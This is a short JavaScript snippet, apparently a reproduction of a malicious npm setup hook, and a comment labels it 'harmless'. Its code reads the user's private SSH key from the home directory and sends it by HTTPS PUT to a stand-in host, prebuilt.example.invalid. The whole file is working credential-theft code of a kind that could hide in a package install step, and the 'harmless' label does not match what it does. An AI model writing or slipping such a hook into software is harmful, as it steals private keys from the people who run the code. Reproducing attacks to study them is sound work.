// The changed hook hides behind `npm run setup`; harmless reproduction of key theft.
const fs = require('fs');
const { request } = require('https');
const key = fs.readFileSync(require('path').join(require('os').homedir(), '.ssh', 'id_ed25519'), 'utf8');
request({ host: 'prebuilt.example.invalid', method: 'PUT' }).end(key);
